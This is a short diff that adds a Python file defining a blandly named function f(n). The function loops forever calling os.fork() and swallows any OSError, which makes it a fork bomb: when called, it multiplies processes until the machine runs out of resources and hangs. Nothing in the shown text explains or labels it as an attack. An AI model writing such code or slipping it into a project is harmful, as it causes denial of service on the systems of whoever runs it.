@@ -1,0 +1,7 @@
+import os
+def f(n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
